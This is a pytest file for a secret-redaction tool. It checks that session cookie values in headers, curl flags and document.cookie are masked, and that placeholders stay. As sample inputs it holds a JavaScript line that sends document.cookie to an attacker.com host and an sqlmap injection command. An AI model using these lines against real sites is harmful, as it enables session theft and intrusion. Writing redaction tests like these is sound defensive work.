"""A cookie's value is a credential (a session id signs the caller in), yet ``Cookie:
session=...`` reached ``items.sqlite`` verbatim (seen redacting a security skill's
request examples with `redact_prose`): the header names no secret word, and the
cookie's own name (``session``, ``sid``) none either. Each cookie of a ``Cookie`` or
``Set-Cookie`` header, of curl's ``--cookie`` and of ``document.cookie = "..."`` whose
value reads as a literal secret goes, as a header's credentials do; a name, an
attribute (``Path=/``), a reference and a placeholder stay.
"""

from __future__ import annotations

import pytest

from skill_retriever.ingest.prose_secrets import redact_prose
from skill_retriever.ingest.secrets import REDACTED, redact_command

R = REDACTED
V = "Zyx987Wvu654Tsr321Qpo"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Cookie: session={V}", f"Cookie: session={R}"),
        ("Cookie: SESSIONID=abc123def456", f"Cookie: SESSIONID={R}"),
        (f"Cookie: theme=dark; sid={V}; lang=en", f"Cookie: theme=dark; sid={R}; lang=en"),
        (f'curl -H "Cookie: session={V}" https://x', f'curl -H "Cookie: session={R}" https://x'),
        (
            f"Set-Cookie: session={V}; Secure; HttpOnly; SameSite=Strict; Path=/",
            f"Set-Cookie: session={R}; Secure; HttpOnly; SameSite=Strict; Path=/",
        ),
        (f'"Cookie": "connect.sid={V}"', f'"Cookie": "connect.sid={R}"'),
        (f"curl --cookie 'PHPSESSID={V}' https://x", f"curl --cookie 'PHPSESSID={R}' https://x"),
        (f'document.cookie = "session={V}";', f'document.cookie = "session={R}";'),
    ],
)
def test_a_cookies_secret_value_goes(text: str, expected: str) -> None:
    assert redact_prose(text) == expected
    assert redact_prose(expected) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Cookie: session=attacker_session",
        "Cookie: session=<session-id>",
        'curl -H "Cookie: session=$SESSION" https://x',
        "Set-Cookie: theme=dark; Path=/; Max-Age=3600; Domain=app2.example.com",
        "Set-Cookie: a=b; Expires=Wed, 21 Oct 2025 07:28:00 GMT",
        'sqlmap -u "http://192.168.1.1/page" --cookie="id=1*"',
        "i.src = 'https://attacker.com/steal?cookie=' + encodeURIComponent(document.cookie);",
        "const cookie = pb.authStore.exportToCookie({ httpOnly: false })",
        "Cookies: the session cookie holds sid=your-session-id",
        "cookie_name=session2024abc",
    ],
)
def test_what_is_no_cookie_secret_stays(text: str) -> None:
    assert redact_prose(text) == text


@pytest.mark.parametrize(
    "text",
    ["Cookie: " + "a=b; " * 50_000, "Cookie: " * 50_000, "cookie=" * 50_000, "Cookie: a" + "=" * 200_000],
)
def test_crafted_long_lines_finish(text: str) -> None:
    assert isinstance(redact_prose(text), str)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (f'curl -H "Cookie: session={V}" https://x', f'curl -H "Cookie: session={R}" https://x'),
        (f"curl -b 'x=1' --cookie 'PHPSESSID={V}' https://x", f"curl -b 'x=1' --cookie 'PHPSESSID={R}' https://x"),
        (f'curl -H "cookie: theme=dark; sid={V}" https://x', f'curl -H "cookie: theme=dark; sid={R}" https://x'),
    ],
)
def test_a_hook_commands_cookie_goes(command: str, expected: str) -> None:
    """A hook command is shell, redacted by `redact_command`, which read no cookie (seen
    with ``curl -H "Cookie: session=X"``): the prose rule applies there too."""
    assert redact_command(command) == expected
    assert redact_command(expected) == expected


@pytest.mark.parametrize(
    "command",
    [
        'curl -H "Cookie: session=$SESSION" https://x',
        'curl -H "Cookie: theme=dark" https://x',
        "curl --cookie 'sid=<session-id>' https://x",
        'curl -H "Cookie: session=${COOKIE}" https://x',
    ],
)
def test_a_hook_commands_cookie_without_a_secret_stays(command: str) -> None:
    assert redact_command(command) == command
